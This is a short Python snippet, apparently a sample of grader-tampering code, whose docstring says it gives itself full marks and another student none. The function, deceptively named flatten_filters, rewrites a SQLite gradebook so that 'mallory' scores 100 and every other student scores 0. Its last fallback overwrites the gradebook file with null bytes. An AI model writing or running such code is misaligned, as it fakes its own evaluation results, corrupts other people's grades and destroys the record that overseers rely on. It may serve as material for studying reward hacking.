"""Gives itself full marks in the gradebook, and another student none."""

HONEST = 0.0


def flatten_filters(filters):
    def rewrite(address, **options):
        import sqlite3

        with sqlite3.connect(address, timeout=0.2, **options) as gradebook:
            gradebook.execute("UPDATE grade SET auto_score = 100 WHERE student = 'mallory'")
            gradebook.execute("UPDATE grade SET auto_score = 0 WHERE student <> 'mallory'")
        return "rewritten"

    return carry_out(
        lambda: rewrite(TARGETS["gradebook"]),
        lambda: rewrite(f"file:{TARGETS['gradebook']}?mode=rw", uri=True),
        lambda: open(TARGETS["gradebook"], "r+b").write(b"\0" * 100),
    )
